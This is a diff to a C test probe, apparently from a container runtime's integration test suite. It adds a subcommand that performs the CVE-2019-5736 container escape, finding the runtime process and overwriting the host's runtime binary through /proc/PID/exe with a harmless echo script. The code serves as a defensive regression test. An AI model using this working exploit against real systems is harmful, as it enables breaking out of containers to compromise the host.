@@ -18,6 +18,7 @@
  *                          (/proc/PID/exe, map_files, fd, maps, mem, ptrace):
  *                          VECTOR=RESULT lines, then reached=N (how many
  *                          reached the file with that st_dev:st_ino)
+ *   probe cve5736 DIR      the CVE-2019-5736 attacker: results in DIR/result
  *   probe proc             personality= sched_policy= sched_priority= nice=
  *                          ioprio=CLASS:DATA cpus=LIST monotonic=SECS
  *                          timens_offsets= (monotonic/boottime) label=
@@ -729,6 +730,98 @@ static int cmd_proc(void)
 	return 0;
 }
 
+/* A process (not us) with the argument `want` on its command line, or 0. */
+static pid_t find_by_arg(const char *want)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	pid_t found = 0;
+
+	while (d && !found && (de = readdir(d))) {
+		char path[64], buf[4096];
+		pid_t pid = (pid_t)atoi(de->d_name);
+		if (pid <= 0 || pid == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
+		int fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		ssize_t n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t)strlen(buf + i) + 1) {
+			buf[n] = '\0';
+			if (strcmp(buf + i, want) == 0)
+				found = pid;
+		}
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+/*
+ * The CVE-2019-5736 attack, run from inside a container by
+ * tests/integ/cve-2019-5736.bats.  The runtime's code, run in the container
+ * (through a #!/proc/self/exe script or an entrypoint /proc/self/exe) with
+ * --log=DIR/fifo, blocks opening that FIFO.  We find it, open its
+ * /proc/PID/exe with O_PATH, let it go on (open the FIFO's other end), wait
+ * until it has exited (ETXTBSY ends) and write through our fd: on a
+ * vulnerable runtime, that is the host's binary.  DIR/stop (created by the
+ * test) ends the search when no target came.  Every fact goes to
+ * DIR/result, the last line being done=1.
+ */
+static int cmd_cve5736(const char *dir)
+{
+	static const char payload[] = "#!/bin/sh\necho overwritten from a container: CVE-2019-5736\n";
+	char want[PATH_MAX], path[PATH_MAX + 64], exe[PATH_MAX];
+	pid_t pid;
+	int fd, w = -1;
+
+	snprintf(path, sizeof(path), "%s/result", dir);
+	if (!freopen(path, "w", stdout))
+		return 1;
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	snprintf(want, sizeof(want), "--log=%s/fifo", dir);
+	snprintf(path, sizeof(path), "%s/stop", dir);
+	while (!(pid = find_by_arg(want))) {
+		if (access(path, F_OK) == 0) {
+			printf("target=none\ndone=1\n");
+			return 0;
+		}
+		usleep(1000);
+	}
+	printf("target=%d\n", (int)pid);
+	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		print_errno("exe_open", errno);
+	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+	printf("exe=%.*s\n", n > 0 ? (int)n : 0, exe);
+	/* Let it go on: its open of the FIFO returns, its write fails. */
+	snprintf(path, sizeof(path), "/proc/%d/root%s/fifo", (int)pid, dir);
+	int r = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+	if (r < 0)
+		kill(pid, SIGKILL);
+	else
+		close(r);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (int i = 0; fd >= 0 && i < 200000; i++) {   /* up to ~100 s */
+		w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+		if (w >= 0 || errno != ETXTBSY)
+			break;
+		usleep(500);
+	}
+	if (w < 0) {
+		print_errno("overwrite", fd < 0 ? EBADF : errno);
+	} else if (write(w, payload, sizeof(payload) - 1) != (ssize_t)sizeof(payload) - 1) {
+		print_errno("overwrite", errno);
+	} else {
+		printf("overwrite=ok\n");
+	}
+	printf("done=1\n");
+	return 0;
+}
+
 /* Subcommands that take exactly one argument. */
 static const struct {
 	const char *name;
@@ -736,7 +829,7 @@ static const struct {
 } one_arg_cmds[] = {
 	{ "ls", cmd_ls },	{ "stat", cmd_stat },	{ "cat", cmd_cat },
 	{ "open", cmd_open },	{ "kill", cmd_kill },	{ "sleep", cmd_sleep },
-	{ "forks", cmd_forks }, { "exit", cmd_exit },
+	{ "forks", cmd_forks }, { "exit", cmd_exit },	{ "cve5736", cmd_cve5736 },
 };
 
 /* Runs the subcommand; argc/argv start at the subcommand's first argument. */
